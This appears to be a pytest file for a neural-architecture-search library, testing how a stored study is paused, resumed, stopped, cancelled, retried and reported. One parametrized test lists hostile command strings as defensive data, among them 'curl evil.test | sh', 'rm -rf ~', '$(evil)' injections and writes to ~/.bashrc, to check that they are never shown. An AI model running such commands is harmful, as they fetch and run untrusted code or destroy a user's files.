"""Pause, resume, stop, cancel and retry, from outside; and what those who look see of a study meanwhile."""

import os
import threading
import time

import numpy as np
import pytest

from nasbot.errors import FileError, StudyError
from nasbot.execution import LocalExecutor, SerialExecutor, SimulatedExecutor
from nasbot.storage import RequestKind, SqliteStorage, post_request
from nasbot.storage.records import Run
from nasbot.study import Budget, Study, StudyState, StudyView, ask_study, runs, status_of
from nasbot.study import loop as loop_module
from nasbot.study.runs import command_line, is_ours, numerics
from nasbot.study.status import StudyStatus
from nasbot.trial import Failed, FailureCause, Provenance
from tests.study.objectives import score, simulated
from tests.study.searchers import Sensitive


@pytest.fixture
def path(tmp_path):
    return tmp_path / "study.sqlite"


def look(path):
    with StudyView.read(path) as view:
        return view.status()


def answers(path):
    reader = SqliteStorage(path, read_only=True)
    try:
        return [row[0] for row in reader._db.execute("SELECT answer FROM requests ORDER BY number")]
    finally:
        reader.close()


class At:
    """Does something when a trial begins: what somebody else might do at that moment."""

    def __init__(self, actions):
        self.actions = dict(actions)
        self.states = []

    def __call__(self, trial):
        self.states.append((trial.number, str(trial.state)))
        action = self.actions.pop((trial.number, str(trial.state)), None)
        if action:
            action()


# -- stop --------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["stop", "stop-now"])
def test_stop_ends_the_run_and_the_next_one_goes_on(path, kind):
    whole = Study.in_memory(Sensitive(), seed=2).optimise(score, 9)
    with Study.open(path, Sensitive(), seed=2) as study:
        watch = At({(4, "running"): lambda: ask_study(path, kind)})
        study.optimise(score, 9, on_change=watch)
        assert len(study.history.finished) == 5
        assert study.runs[-1].ending == "stopped"
        study.optimise(score, 9)
        assert [t.arch for t in study.history] == [t.arch for t in whole.history]
        assert study.runs[-1].ending == "finished"
    assert answers(path) == ["stopping"]


def test_stop_now_lets_running_trials_wait(path):
    with Study.open(path, Sensitive(), seed=2) as study:
        watch = At({(4, "completed"): lambda: ask_study(path, "stop-now")})
        study.optimise(simulated, 20, executor=SimulatedExecutor(3), on_change=watch)
        states = [str(trial.state) for trial in study.history]
        assert "waiting" in states
        assert "running" not in states


def test_a_stop_that_came_too_late_is_void(path):
    with Study.open(path, Sensitive()) as study:
        study.optimise(score, 2)
        post_request(path, "stop")
        study.optimise(score, 4)
        assert len(study.history.finished) == 4
    assert answers(path) == ["void: the run it was meant for had ended"]


# -- pause and resume --------------------------------------------------------------------------------------------------


def test_pause_waits_until_resume_and_its_time_does_not_count(path, monkeypatch):
    monkeypatch.setattr(loop_module, "REQUEST_SECONDS", 0.01)
    seen = []

    def later():
        while look(path).state is not StudyState.PAUSED:
            time.sleep(0.01)
        for _ in range(20):
            time.sleep(0.01)
            with StudyView.read(path) as view:
                seen.append((str(view.status().state), len(view.history.finished)))
        ask_study(path, "resume")

    with Study.open(path, Sensitive(), seed=2) as study:
        other = threading.Thread(target=later)
        watch = At({(3, "running"): lambda: (ask_study(path, "pause"), other.start())})
        study.optimise(simulated, 8, executor=SimulatedExecutor(1), on_change=watch)
        other.join()
        assert len(study.history.finished) == 8
        whole = Study.in_memory(Sensitive(), seed=2).optimise(simulated, 8, executor=SimulatedExecutor(1))
        assert [t.finished for t in study.history] == [t.finished for t in whole.history]
    assert {state for state, _ in seen} == {"paused"}
    assert {n for _, n in seen} <= {3, 4}
    assert seen[-1] == ("paused", 4)
    assert answers(path) == ["paused", "running"]


def test_a_paused_run_can_be_stopped(path, monkeypatch):
    monkeypatch.setattr(loop_module, "REQUEST_SECONDS", 0.01)
    with Study.open(path, Sensitive()) as study:
        watch = At({(1, "running"): lambda: (post_request(path, "pause"), post_request(path, "stop"))})
        study.optimise(score, 8, on_change=watch)
        assert len(study.history.finished) == 2
        watch = At({(2, "running"): lambda: (post_request(path, "stop"), post_request(path, "pause"))})
        study.optimise(score, 8, on_change=watch)
        assert len(study.history.finished) == 3
    assert answers(path) == ["paused", "stopping", "stopping", "refused: the run is stopping"]


# -- cancel and retry --------------------------------------------------------------------------------------------------


def wait_for_ever(arch):
    time.sleep(1e6)


def test_a_running_trial_is_cancelled_in_its_process(path, monkeypatch):
    monkeypatch.setattr(loop_module, "REQUEST_SECONDS", 0.05)
    executor = LocalExecutor(1)
    with Study.open(path, Sensitive(n_pool=2)) as study:
        watch = At({(n, "running"): (lambda n=n: ask_study(path, "cancel", n)) for n in range(2)})
        watch.actions[(1, "cancelled")] = lambda: ask_study(path, "stop")
        study.optimise(wait_for_ever, 2, executor=executor, on_change=watch)
        assert [str(t.state) for t in study.history] == ["cancelled", "cancelled"]
    executor.close()
    assert answers(path) == ["trial 0 is cancelled", "trial 1 is cancelled", "stopping"]


def test_a_waiting_trial_is_cancelled_and_never_run(path):
    with Study.open(path, Sensitive()) as study:
        watch = At({(0, "running"): lambda: ask_study(path, "cancel", 2)})
        study.optimise(score, 4, on_change=watch)
        assert [str(t.state) for t in study.history] == [
            "completed",
            "completed",
            "cancelled",
            "completed",
            "completed",
        ]
        assert study.history[2].attempts == 0
        assert all(proposal.arch == trial.arch for trial, proposal in study.replay())


def test_a_failed_trial_is_tried_again_as_a_new_one(path):
    def fails_once(arch, trial):
        if trial.number == 1:
            raise ValueError("not today")
        return score(arch)

    with Study.open(path, Sensitive(), seed=3) as study:
        watch = At({(1, "failed"): lambda: ask_study(path, "retry", 1)})
        study.optimise(fails_once, 6, on_change=watch)
        assert str(study.history[1].state) == "failed"
        again = study.history[3]
        assert (again.arch, str(again.state)) == (study.history[1].arch, "completed")
        assert again.origin == Provenance(searcher="retry", of_trial=1)
        assert len(study.history.finished) == 6
        assert all(proposal.arch == trial.arch for trial, proposal in study.replay())
    assert answers(path) == ["trial 1 will be tried again, as trial 3"]


def test_what_cannot_be_done_is_said(path):
    with Study.open(path, Sensitive()) as study:
        study.tell(study.ask(), 1.0)
        for kind, trial, words in [
            ("cancel", 0, "trial 0 is completed already"),
            ("retry", 0, "trial 0 is completed; only one that failed"),
            ("retry", 99, "there is no trial 99"),
        ]:
            with pytest.raises(StudyError, match=words):
                ask_study(path, kind, trial)
            post_request(path, kind, trial)  # and if it changed in between, the driver says so
        study.ask()
    refusals = answers(path)
    assert len(refusals) == 3
    assert all(answer.startswith("refused: ") for answer in refusals)


def test_requests_to_a_study_that_is_driven_by_hand(path):
    with Study.open(path, Sensitive()) as study:
        first = study.ask()
        for kind, trial in [("pause", None), ("cancel", first.number), ("cancel", 2)]:
            ask_study(path, kind, trial)
        assert study.ask().number == 1
        assert str(study.history[2].state) == "cancelled"
        assert "refused: the study is driven by hand" in answers(path)[0]
        assert "is being evaluated" in answers(path)[1]


def test_without_a_driver_trials_are_changed_at_once(path):
    with Study.open(path, Sensitive(), seed=3) as study:
        study.tell(study.ask(), Failed(FailureCause.OOM, "too large"))
        study.ask()
    asked = ask_study(path, "retry", 0)
    assert asked.done
    assert asked.text == "trial 0 will be tried again, as trial 3"
    with pytest.raises(StudyError, match="being tried again already, as trial 3"):
        ask_study(path, "retry", 0)
    assert ask_study(path, "cancel", 1).text == "trial 1 is cancelled"
    for kind in ("pause", "resume", "stop"):
        with pytest.raises(StudyError, match=f"nobody drives this study, so there is nothing to {kind}"):
            ask_study(path, kind)
    with Study.open(path, Sensitive(), seed=3) as study:
        study.optimise(score, 4)
        assert [str(t.state) for t in study.history] == ["failed", "cancelled", *["completed"] * 3]
        assert all(proposal.arch == trial.arch for trial, proposal in study.replay())


def test_asking_a_study_that_is_not_there(path):
    with pytest.raises(FileError, match="No such file"):
        ask_study(path, "pause")
    assert not path.parent.joinpath("study.sqlite.lock").exists()


# -- status ------------------------------------------------------------------------------------------------------------


def test_the_states_of_a_study(path):
    states = []

    def note():
        states.append(look(path))

    with Study.open(path, Sensitive()) as study:
        note()
        watch = At({(0, "running"): note, (1, "running"): lambda: (ask_study(path, "stop"), None)})
        watch.actions[(1, "completed")] = note
        study.optimise(score, Budget(trials=3, seconds=3600), on_change=watch)
        note()
    note()
    assert [str(status.state) for status in states] == ["idle", "running", "running", "idle", "idle"]
    running = states[1]
    assert (running.budget, running.workers, running.is_driven) == (Budget(3, 3600.0), 1, True)
    assert running.driver.startswith(f"process {os.getpid()} on ")
    assert running.silence >= 0
    assert states[-1].to_dict()["ending"] == "stopped"
    assert states[0].run is None
    assert states[0].to_dict()["budget"] is None


def test_a_driver_that_died_is_told_from_one_that_ended(path, monkeypatch):
    study = Study.open(path, Sensitive())
    study.ask()
    assert look(path).state is StudyState.RUNNING
    study._storage.close()  # what the kernel does for a process that is killed
    assert look(path).state is StudyState.DIED
    with Study.open(path, Sensitive()) as resumed:
        assert resumed.runs[0].ending == "died"
        assert look(path).state is StudyState.IDLE


def test_a_run_that_fails_says_how(path):
    def boom(trial):
        raise RuntimeError("the callback's own fault")

    with Study.open(path, Sensitive()) as study:
        with pytest.raises(RuntimeError):
            study.optimise(score, 3, on_change=boom)
        assert study.runs[-1].ending == "failed: RuntimeError: the callback's own fault"
        with pytest.raises(KeyboardInterrupt):
            study.optimise(interrupting, 3)
        assert study.runs[-1].ending == "interrupted"


def interrupting(arch):
    raise KeyboardInterrupt


def test_status_in_memory():
    study = Study.in_memory(Sensitive())
    assert study.status().state is StudyState.IDLE
    study.optimise(score, 2, executor=SerialExecutor())
    assert status_of(study._storage).run.ending == "finished"
    assert list(study._driver.requests()) == []


@pytest.mark.parametrize(
    ("argv", "orig", "line"),
    [
        (["/home/me/.venv/bin/nasbot", "run", "my data.csv"], ["python", "x"], "nasbot run 'my data.csv'"),
        (["search.py", "--seed", "1"], ["/usr/bin/python3", "search.py", "--seed", "1"], "python search.py --seed 1"),
        (["/x/site/mine.py"], ["python", "-m", "mine"], "python -m mine"),
        (
            ["/x/nasbot/__main__.py", "run", "a b"],
            ["python", "-m", "nasbot", "run", "a b"],
            "python -m nasbot run 'a b'",
        ),
        (["-c"], ["python", "-c", "1"], None),
        ([""], ["python"], None),
    ],
)
def test_how_to_go_on(monkeypatch, argv, orig, line):
    monkeypatch.setattr("sys.argv", argv)
    monkeypatch.setattr("sys.orig_argv", orig)
    assert command_line() == line


def test_kinds_of_requests():
    assert {kind for kind in RequestKind if kind.names_trial} == {RequestKind.CANCEL, RequestKind.RETRY}


def test_a_run_records_what_its_last_bits_depend_on(path):
    with Study.open(path, Sensitive()) as study:
        study.optimise(score, 1)
        (run,) = study._storage.runs()
    assert run.record["numerics"] == numerics()
    assert run.record["numerics"]["cpu_features"]
    assert any("openblas" in library for library in run.record["numerics"]["libraries"])


def status_with(command):
    run = Run(number=0, begun=0.0, record={"command": command})
    return StudyStatus(StudyState.IDLE, at=0.0, seen=None, run=run, n_runs=1)


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.test | sh",
        "nasbot run x.csv; rm -rf ~",
        "nasbot run x.csv && evil",
        "nasbot run $(evil)",
        "nasbot run `evil`",
        "nasbot run 'x.csv' > ~/.bashrc",
        "nasbot run x.csv\nevil",
        "nasbot repair x",
        "nasbot",
        "/tmp/nasbot run x.csv",
        "python -c 'import os'",
        "python -m pip install evil",
        "python -m nasbot export x",
        "python -W x evil.py",
        "sudo nasbot run x.csv",
        "'nasbot run x.csv",
        "",
    ],
)
def test_a_command_that_nasbot_did_not_write_is_not_shown(command):
    assert not is_ours(command)
    assert status_with(command).command is None


@pytest.mark.parametrize(
    "command",
    ["nasbot run 'my data.csv' --budget 2h", "nasbot demo", "python -m nasbot run x.csv", "python -u a/b.py -n 3"],
)
def test_our_own_commands_are_shown(command):
    assert is_ours(command)
    assert status_with(command).command == command


def test_a_replay_says_what_is_other_here(path, monkeypatch):
    with Study.open(path, Sensitive()) as study:
        study.optimise(score, 1)
        assert study.replay_differences() == []
    here = numerics()
    features = [*here["cpu_features"][1:], "AVX1024"]
    elsewhere = {"processor": "riscv64", "libraries": here["libraries"], "cpu_features": features}
    monkeypatch.setattr(runs, "numerics", lambda: elsewhere)
    monkeypatch.setattr(runs, "noted_versions", lambda: {"numpy": "9.9"})
    with StudyView.read(path) as view:
        differences = view.replay_differences()
    assert differences == [
        f"processor: then {here['processor']}, here riscv64",
        f"cpu_features: then also {here['cpu_features'][0]}; here also AVX1024",
        f"numpy: then {np.__version__}, here 9.9",
    ]
    assert "did not record" in runs.numeric_differences(Run(number=0, begun=0.0, record={}))[0]
